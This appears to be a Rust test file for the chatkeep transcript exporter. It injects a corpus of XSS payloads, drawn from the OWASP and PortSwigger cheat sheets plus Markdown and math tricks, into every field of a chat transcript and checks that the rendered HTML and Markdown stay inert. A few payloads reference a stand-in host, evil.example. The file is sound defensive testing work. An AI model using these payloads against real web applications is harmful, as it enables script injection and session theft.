//! Script injection: every payload of a corpus is put into every slot of a transcript (title,
//! user text, assistant Markdown, code, file names, citations, image alt and prompt, Canvas,
//! quotes, reasoning, branches…), then:
//!
//! - the HTML is checked structurally: the CSP meta comes before anything from the chat, no
//!   element that runs or loads anything, no `on*` attribute, no `javascript:`/`vbscript:`/
//!   `data:` link (only `data:image/…` images), no CSS `expression()`/`url()` in a style;
//! - the Markdown is parsed twice, as a plain CommonMark renderer with tables does (no math,
//!   no footnotes) and as GitHub and Obsidian do (GFM, footnotes, math): every raw HTML piece
//!   in it must be one the writer emits itself (`<details>`, `<summary>`), and no link or
//!   image points to a script URL. Model-written Markdown (assistant text, reasoning, Canvas
//!   documents) is checked like every other slot.
//!
//! With `CHATKEEP_XSS_OUT=<dir>`, the HTML pages and the Markdown files (both flavours) are
//! also written there, one per payload, for the browser test (`tests/e2e/xss.test.mjs`) to
//! open in headless Chromium (the Markdown rendered by markdown-it with raw HTML allowed).

use chatkeep_core::{
    render, Asset, Block, Branch, BranchKind, Branches, Flavor, Format, Hidden, Images, Message,
    Options, Role, Source, Thought, Transcript,
};
use pulldown_cmark::{Event, Options as MdOptions, Parser, Tag};

/// Script-injection payloads (OWASP's filter-evasion cheat sheet, PortSwigger's XSS
/// cheat sheet, and Markdown-specific tricks).
pub const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=\"x\" onerror=\"alert`1`\"/>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">click</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">X</maction></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"background-image:url('https://evil.example/track.png')\">x</div>",
    "<p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
    "<img src=x onerror=\"\\u0061lert(1)\">",
    "<img\u{0}src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><script>alert(1)</script></xmp>",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "\u{202E}>tpircs/<)1(trela>tpircs<",
    "＜img src=x onerror=alert(1)＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](  javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "![alt\" onerror=\"alert(1)](x)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<https://example.com/\" onclick=\"alert(1)>",
    "[a](https://example.com/\"onmouseover=\"alert(1))",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$",
    "$$\\href{javascript:alert(1)}{click}$$",
    "$\\unicode{<img src=x onerror=alert(1)>}$",
    "[^1]: <script>alert(1)</script>",
    "> [!note] <img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
];

/// What a reader makes of text the user typed: Markdown that shows exactly that text.
fn user_markdown(text: &str) -> String {
    let json = serde_json::json!({"title": "t", "current_node": "u", "mapping": {"u": {"id": "u",
        "message": {"id": "u", "author": {"role": "user"},
                    "content": {"content_type": "text", "parts": [text]}}}}});
    let t = chatkeep_core::source::api::read_conversation(&json.to_string()).expect("readable");
    match t.messages.first().and_then(|m| m.blocks.first()) {
        Some(Block::Text { markdown }) => markdown.clone(),
        other => panic!("user text read as {other:?}"),
    }
}

/// A transcript with `p` in every slot a writer shows. User text goes through the reader,
/// as it always does; model-written Markdown holds `p` verbatim.
fn transcript_with(p: &str) -> Transcript {
    let asset = |name: &str| {
        Asset {
        pointer: Some(format!("sediment://file_00{p}")),
        name: Some(format!("{p}{name}")),
        mime: Some(format!("image/png\" onload=\"alert(1) {p}")),
        size: Some(68),
        width: Some(1),
        height: Some(1),
        // A real 1×1 PNG so the writers embed it.
        data: Some(
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\x0f\0\0\x01\x01\0\x05\x18\xd8N\0\0\0\0IEND\xaeB`\x82".to_vec(),
        ),
    }
    };
    let text = |s: String| Block::Text { markdown: s };
    let md = format!(
        "{p}\n\nInline {p} and [link {p}]({p}) and ![{p}]({p}) and <{p}> [^1]\n\n\
         | {p} | b |\n|---|---|\n| {p} | [x]({p}) |\n\n- {p}\n\n> {p}\n\n$${p}$$\n\n$ {p} $"
    );
    let user_md = user_markdown(&md);
    let msg = |id: &str, role: Role, blocks: Vec<Block>| Message {
        id: format!("{id}{p}"),
        role,
        author_name: Some(p.to_owned()),
        recipient: Some(p.to_owned()),
        create_time: Some(1_700_000_000.0),
        model: Some(p.to_owned()),
        hidden: None,
        variant: None,
        blocks,
    };
    let mut reasoning = msg(
        "r",
        Role::Assistant,
        vec![
            Block::Reasoning {
                thoughts: vec![Thought {
                    summary: Some(p.to_owned()),
                    content: md.clone(),
                }],
            },
            Block::ReasoningRecap { text: p.to_owned() },
        ],
    );
    reasoning.hidden = Some(Hidden::Reasoning);
    let mut hidden = msg(
        "h",
        Role::Tool,
        vec![
            Block::ToolOutput { text: p.to_owned() },
            Block::Memory { text: p.to_owned() },
            Block::Unsupported {
                content_type: p.to_owned(),
                raw: format!("{{\"x\": {:?}}}", p),
            },
        ],
    );
    hidden.hidden = Some(Hidden::ToolOutput);
    let mut ci = msg(
        "ci",
        Role::System,
        vec![Block::CustomInstructions {
            about_user: Some(p.to_owned()),
            instructions: Some(md.clone()),
        }],
    );
    ci.hidden = Some(Hidden::CustomInstructions);
    let user = msg(
        "u",
        Role::User,
        vec![
            text(user_md.clone()),
            Block::Attachment {
                asset: asset(".pdf"),
            },
            Block::Image {
                asset: asset(".png"),
                prompt: Some(p.to_owned()),
            },
            Block::Audio {
                asset: asset(".wav"),
            },
            Block::Transcription {
                text: p.to_owned(),
                direction: Some(p.to_owned()),
            },
        ],
    );
    let mut assistant = msg(
        "a",
        Role::Assistant,
        vec![
            text(md.clone()),
            Block::Code {
                language: Some(p.to_owned()),
                code: p.to_owned(),
            },
            Block::ExecutionOutput { text: p.to_owned() },
            Block::Image {
                asset: Asset {
                    data: None,
                    ..asset(".jpg")
                },
                prompt: Some(p.to_owned()),
            },
            Block::Quote {
                title: Some(p.to_owned()),
                url: Some(p.to_owned()),
                domain: Some(p.to_owned()),
                text: md.clone(),
            },
            Block::Canvas {
                title: Some(p.to_owned()),
                kind: Some(format!("code/{p}")),
                content: p.to_owned(),
            },
            Block::Canvas {
                title: Some(p.to_owned()),
                kind: Some("document".to_owned()),
                content: md.clone(),
            },
            Block::SystemError {
                name: Some(p.to_owned()),
                text: p.to_owned(),
            },
        ],
    );
    assistant.variant = Some((1, 2));
    let alt = msg("alt", Role::Assistant, vec![text(md.clone())]);
    Transcript {
        id: format!("id-{p}"),
        title: p.to_owned(),
        url: Some(p.to_owned()),
        create_time: Some(1_700_000_000.0),
        update_time: Some(1_700_000_100.0),
        model: Some(p.to_owned()),
        gizmo_id: Some(format!("g-p-{p}")),
        messages: vec![ci, user, reasoning, hidden, assistant],
        branches: vec![Branch {
            parent_id: Some(format!("u{p}")),
            kind: BranchKind::AlternativeAnswer,
            index: 2,
            count: 2,
            messages: vec![alt],
        }],
        sources: vec![
            Source {
                title: Some(p.to_owned()),
                url: Some(p.to_owned()),
                attribution: Some(p.to_owned()),
            },
            Source {
                title: Some(p.to_owned()),
                url: Some(format!("https://example.com/{p}")),
                attribution: None,
            },
        ],
        warnings: vec![chatkeep_core::Warning::reader(p)],
        ..Transcript::default()
    }
}

fn options(images: Images, flavor: Flavor) -> Options {
    Options {
        formats: Format::ALL.to_vec(),
        branches: Branches::All,
        include_reasoning: true,
        include_hidden: true,
        include_custom_instructions: true,
        images,
        flavor,
        ..Options::default()
    }
}

/// One start tag of the output: its name and attributes (value entity-decoded).
struct Tag_ {
    name: String,
    attrs: Vec<(String, String)>,
}

/// Every start tag of an HTML page written by chatkeep. Its text is escaped, so every `<`
/// outside `<style>` starts a real tag; comments and `</…>` are skipped.
fn tags(html: &str) -> Vec<Tag_> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        rest = &rest[i + 1..];
        if rest.starts_with('/') || rest.starts_with('!') {
            continue;
        }
        let end = rest.find('>').expect("every tag is closed");
        let inner = &rest[..end];
        let name_end = inner
            .find(|c: char| c.is_whitespace() || c == '/')
            .unwrap_or(inner.len());
        let name = inner[..name_end].to_ascii_lowercase();
        let mut attrs = Vec::new();
        let mut a = inner[name_end..].trim_start_matches('/');
        loop {
            a = a.trim_start();
            if a.is_empty() || a == "/" {
                break;
            }
            let k_end = a
                .find(|c: char| c == '=' || c.is_whitespace())
                .unwrap_or(a.len());
            let key = a[..k_end].to_ascii_lowercase();
            a = &a[k_end..];
            let mut value = String::new();
            if let Some(r) = a.strip_prefix('=') {
                let r = r.trim_start();
                assert!(
                    r.starts_with('"'),
                    "unquoted attribute {key} in <{name}{}>",
                    &inner[name_end..]
                );
                let close = r[1..].find('"').expect("closing quote");
                value = decode_entities(&r[1..1 + close]);
                a = &r[close + 2..];
            }
            attrs.push((key, value));
        }
        if name == "style" {
            // Skip the style sheet: it holds CSS, not tags.
            let close = rest.find("</style>").expect("style closed");
            rest = &rest[close..];
        }
        out.push(Tag_ { name, attrs });
    }
    out
}

fn decode_entities(s: &str) -> String {
    s.replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// A URL's scheme as a browser reads it: control characters and whitespace dropped; empty
/// for a relative URL (no `:`, or one after a character a scheme cannot hold).
fn scheme(url: &str) -> String {
    let cleaned: String = url
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    match cleaned.find(':') {
        Some(i)
            if cleaned.starts_with(|c: char| c.is_ascii_alphabetic())
                && cleaned[..i]
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)) =>
        {
            cleaned[..=i].to_owned()
        }
        _ => String::new(),
    }
}

const FORBIDDEN_ELEMENTS: &[&str] = &[
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "link",
    "svg",
    "animate",
    "set",
    "template",
    "video",
    "audio",
    "source",
    "body",
    "html",
    "head",
    "noscript",
    "xmp",
    "marquee",
    "foreignobject",
    "portal",
    "maction",
];

fn check_html(html: &str, payload: &str) {
    let ctx = || format!("payload {payload:?}");
    let head_end = html.find("</head>").expect("head");
    let csp = html
        .find("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';")
        .expect("CSP meta");
    let title = html.find("<title>").expect("title");
    assert!(
        csp < title && csp < head_end,
        "the CSP comes before anything from the chat ({})",
        ctx()
    );
    assert_eq!(
        html.matches("<meta http-equiv").count(),
        1,
        "one http-equiv ({})",
        ctx()
    );
    assert_eq!(html.matches("<head>").count(), 1, "{}", ctx());
    assert_eq!(html.matches("<style>").count(), 1, "{}", ctx());
    let lower = html.to_ascii_lowercase();
    assert!(!lower.contains("<script"), "{}", ctx());
    let all = tags(html);
    let structural = ["html", "head", "body", "meta"];
    for t in &all {
        if FORBIDDEN_ELEMENTS.contains(&t.name.as_str()) && !structural.contains(&t.name.as_str()) {
            panic!("element <{}> in the output ({})", t.name, ctx());
        }
        for (k, v) in &t.attrs {
            assert!(
                !k.starts_with("on"),
                "event handler {k}={v:?} on <{}> ({})",
                t.name,
                ctx()
            );
            assert!(
                !matches!(
                    k.as_str(),
                    "srcdoc" | "formaction" | "action" | "xlink:href" | "http-equiv"
                ) || (k == "http-equiv" && t.name == "meta"),
                "attribute {k} on <{}> ({})",
                t.name,
                ctx()
            );
            if matches!(k.as_str(), "href" | "src" | "cite" | "poster" | "data") {
                let s = scheme(v);
                let ok = match s.as_str() {
                    "" | "http:" | "https:" | "mailto:" => true,
                    "data:" => k == "src" && t.name == "img" && v.starts_with("data:image/"),
                    _ => false,
                };
                assert!(ok, "<{} {k}={v:?}> ({})", t.name, ctx());
                if t.name == "img" && v.starts_with("data:image/") {
                    assert!(!v.starts_with("data:image/svg"), "{}", ctx());
                }
            }
            if k == "style" {
                let v = v.to_ascii_lowercase();
                assert!(
                    !v.contains("expression") && !v.contains("url(") && !v.contains("behavior"),
                    "style {v:?} ({})",
                    ctx()
                );
            }
        }
    }
    for t in &all {
        if t.name == "meta" {
            let ok = t.attrs.iter().any(|(k, v)| {
                (k == "charset" && v == "utf-8")
                    || (k == "name"
                        && ["viewport", "color-scheme", "generator"].contains(&v.as_str()))
                    || (k == "http-equiv" && v == "Content-Security-Policy")
            });
            assert!(ok, "unexpected <meta> ({})", ctx());
        }
    }
}

/// The Markdown as GitHub and Obsidian read it: raw HTML only from the writer itself, and no
/// link or image to a script URL.
fn check_markdown(md: &str, payload: &str) {
    let ctx = || format!("payload {payload:?}");
    let body = md
        .strip_prefix("---\n")
        .map_or(md, |r| r.find("\n---\n").map_or(r, |i| &r[i + 5..]));
    let commonmark = MdOptions::ENABLE_TABLES | MdOptions::ENABLE_STRIKETHROUGH;
    let gfm = commonmark
        | MdOptions::ENABLE_FOOTNOTES
        | MdOptions::ENABLE_TASKLISTS
        | MdOptions::ENABLE_MATH
        | MdOptions::ENABLE_GFM;
    let events = Parser::new_ext(body, commonmark).chain(Parser::new_ext(body, gfm));
    for ev in events {
        match ev {
            Event::Html(h) | Event::InlineHtml(h) => {
                let h = h.trim();
                let own = h == "<details>"
                    || h == "</details>"
                    || (h.starts_with("<summary>")
                        && h.ends_with("</summary>")
                        && !h["<summary>".len()..h.len() - "</summary>".len()].contains('<'))
                    || h == "<summary>"
                    || h == "</summary>";
                assert!(own, "raw HTML {h:?} in the Markdown ({})", ctx());
            }
            Event::Start(Tag::Link { dest_url, .. })
            | Event::Start(Tag::Image { dest_url, .. }) => {
                let s = scheme(&dest_url);
                let ok = match s.as_str() {
                    "" | "http:" | "https:" | "mailto:" => true,
                    "data:" => {
                        dest_url.starts_with("data:image/")
                            && !dest_url.starts_with("data:image/svg")
                    }
                    _ => false,
                };
                assert!(ok, "link to {dest_url:?} in the Markdown ({})", ctx());
            }
            _ => {}
        }
    }
    // YAML front matter: every value is a quoted scalar on one line.
    if let Some(fm) = md
        .strip_prefix("---\n")
        .and_then(|r| r.split("\n---\n").next())
    {
        for line in fm.lines() {
            let (k, v) = line.split_once(": ").unwrap_or((line, ""));
            assert!(
                k.chars().all(|c| c.is_ascii_lowercase() || c == '_'),
                "front matter line {line:?} ({})",
                ctx()
            );
            assert!(
                v.is_empty()
                    || v.starts_with('"')
                    || v.chars()
                        .all(|c| c.is_ascii_alphanumeric() || ":-TZ.".contains(c)),
                "front matter value {v:?} ({})",
                ctx()
            );
        }
    }
}

#[test]
fn payloads_stay_text_in_every_slot() {
    let out_dir = std::env::var_os("CHATKEEP_XSS_OUT").map(std::path::PathBuf::from);
    if let Some(d) = &out_dir {
        std::fs::create_dir_all(d).expect("output dir");
    }
    for (i, p) in PAYLOADS.iter().enumerate() {
        let t = transcript_with(p);
        for (images, flavor) in [
            (Images::Embed, Flavor::Plain),
            (Images::Link, Flavor::Obsidian),
            (Images::Omit, Flavor::Plain),
        ] {
            let opts = options(images, flavor);
            let html = render::to_string(&t, Format::Html, &opts);
            check_html(&html, p);
            let md = render::to_string(&t, Format::Markdown, &opts);
            check_markdown(&md, p);
            let json = render::to_string(&t, Format::Json, &opts);
            assert!(serde_json::from_str::<serde_json::Value>(&json).is_ok());
            if let Some(d) = &out_dir {
                let name = format!("payload-{i:03}");
                match (images, flavor) {
                    (Images::Embed, _) => {
                        std::fs::write(d.join(format!("{name}.html")), &html).expect("write");
                        std::fs::write(d.join(format!("{name}.md")), &md).expect("write");
                    }
                    (_, Flavor::Obsidian) => {
                        std::fs::write(d.join(format!("{name}.obsidian.md")), &md).expect("write");
                    }
                    _ => {}
                }
            }
        }
    }
    if let Some(d) = &out_dir {
        // The hostile fixture read from its JSON, through the reader too.
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../tests/fixtures/api/hostile/input.json");
        let json = std::fs::read_to_string(path).expect("hostile fixture");
        let t = chatkeep_core::source::api::read_conversation(&json).expect("readable");
        let opts = options(Images::Embed, Flavor::Plain);
        let html = render::to_string(&t, Format::Html, &opts);
        check_html(&html, "hostile fixture");
        std::fs::write(d.join("fixture-hostile.html"), &html).expect("write");
        let md = render::to_string(&t, Format::Markdown, &opts);
        check_markdown(&md, "hostile fixture");
        std::fs::write(d.join("fixture-hostile.md"), &md).expect("write");
    }
}

/// The checker itself catches what it is meant to catch.
#[test]
fn the_checks_fail_on_unsafe_output() {
    let page = |body: &str| {
        format!("<!DOCTYPE html><html><head><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:\"><title>x</title><style>p{{}}</style></head><body>{body}</body></html>")
    };
    for bad in [
        "<script>alert(1)</script>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<a href=\"java&#x09;script:alert(1)\">x</a>"
            .replace("&#x09;", "\t")
            .as_str(),
        "<a href=\"data:text/html,x\">x</a>",
        "<div style=\"background:url(x)\">x</div>",
        "<svg></svg>",
    ] {
        let html = page(bad);
        let caught = std::panic::catch_unwind(|| check_html(&html, bad)).is_err();
        assert!(caught, "not caught: {bad}");
    }
    for bad in [
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        // Math to GitHub and Obsidian, raw HTML to a renderer without math.
        "$<img src=x onerror=alert(1)>$",
    ] {
        let caught = std::panic::catch_unwind(|| check_markdown(bad, bad)).is_err();
        assert!(caught, "not caught: {bad}");
    }
}
